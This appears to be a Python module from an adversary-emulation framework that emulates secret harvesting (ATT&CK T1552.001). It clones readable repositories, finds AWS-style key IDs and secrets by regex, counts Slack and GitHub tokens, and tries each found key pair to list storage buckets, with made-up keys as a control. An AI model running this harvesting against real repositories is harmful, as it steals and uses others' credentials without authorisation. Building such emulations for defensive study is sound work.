"""Secret harvest: clone the source code that may be read, and try every key that stands in it.

Source: MITRE ATT&CK T1552.001 (Credentials In Files); the case study AML.CS0006, where keys of the storage lay in the
code. Access: none beside an account. Cost: one call for the list of repositories, one for each clone, one for each pair
of key and secret that is tried. Control: as many pairs, made up.

Pairs are found by their form: an id of an access key, and the longest value named like a secret in the same file.
Chat tokens are counted and never tried, as they open something else than the target.

Result: one outcome for each pair, e.g. ``SampleOutcome(index=1, claimed=True, confirmed=False, queries=1,
distance=0.0)``, claimed where it was found, confirmed where it lists at least one bucket; holds ``access_key`` (the
pair that lists most) and ``own_buckets`` (what could be listed without it); figures ``files_read``, ``secrets_found``,
``keys_that_work``, ``buckets_opened``.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from threatmatrix.emulate.artefacts import AccessKey
from threatmatrix.emulate.attacks.access.errand import REPOSITORY, Errand
from threatmatrix.emulate.stage import Brought, Stage
from threatmatrix.model.errors import TargetRefused
from threatmatrix.model.evidence import SampleOutcome

__all__ = ["HarvestSecretsParams", "harvest_secrets"]

KEY_ID = re.compile(r"\bA(?:KIA|SIA)[0-9A-Z]{16}\b")
SECRET = re.compile(r"(?i)\b[\w-]*(?:secret|private)[\w-]*[\"']?\s*[:=]\s*[\"']?([A-Za-z0-9/+=_-]{20,})")
TOKEN = re.compile(r"\b(?:xox[abp]-|ghp_|glpat-)[A-Za-z0-9-]{16,}")


@dataclass(frozen=True, slots=True)
class HarvestSecretsParams:
    """``largest``: files with more bytes are no code. ``guesses``: pairs that the control makes up."""

    largest: int = 200_000
    guesses: int = 2


def harvest_secrets(stage: Stage) -> Brought:
    """Clone, search, try; see the module's docstring."""
    settings = stage.settings(HarvestSecretsParams)
    errand = Errand(stage)
    own = tuple(bucket for bucket in errand.buckets() if not bucket.endswith(REPOSITORY))
    if stage.control:
        pairs = [_made_up(stage) for _ in range(settings.guesses)]
        files, tokens = 0, 0
    else:
        texts = list(_code(errand, settings.largest))
        pairs = sorted({pair for text in texts for pair in _pairs(text)}, key=lambda pair: pair.key_id)
        files, tokens = len(texts), sum(len(TOKEN.findall(text)) for text in texts)
    stage.report(f"{len(pairs)} keys to try")
    tried = [(pair, _opened(errand, pair)) for pair in pairs]
    outcomes = tuple(
        SampleOutcome(index=i, claimed=not stage.control, confirmed=bool(opened), queries=1, distance=0.0)
        for i, (_, opened) in enumerate(tried)
    )
    best, opened = max(tried, key=lambda one: len(one[1]), default=(None, ()))
    holds = {"access_key": best, "own_buckets": own} if best is not None and opened else {"own_buckets": own}
    return Brought(
        outcomes=outcomes or (errand.nothing(),),
        holds=holds,
        figures={
            "files_read": float(files),
            "secrets_found": float(2 * len(pairs) * (not stage.control) + tokens),
            "keys_that_work": float(sum(bool(found) for _, found in tried)),
            "buckets_opened": float(len(set(opened) - set(own))),
        },
    )


def _code(errand: Errand, largest: int) -> Iterator[str]:
    for bucket, entry in errand.listing(repositories=True):
        content = errand.store.get(bucket, entry.key) if entry.size <= largest else b""  # from the clone: no call
        if content and b"\0" not in content:
            yield content.decode(errors="replace")


def _pairs(text: str) -> Iterator[AccessKey]:
    secrets = sorted(set(SECRET.findall(text)), key=len)
    for key_id in sorted(set(KEY_ID.findall(text))):
        if secrets:
            yield AccessKey(key_id, secrets[-1])


def _made_up(stage: Stage) -> AccessKey:
    return AccessKey("AKIA" + stage.rng.bytes(8).hex().upper(), stage.rng.bytes(20).hex())


def _opened(errand: Errand, pair: AccessKey) -> tuple[str, ...]:
    if not errand.affords():
        return ()
    errand.store.use_key(pair.key_id, pair.secret)
    try:
        return tuple(bucket for bucket in errand.store.buckets() if not bucket.endswith(REPOSITORY))
    except TargetRefused:
        return ()
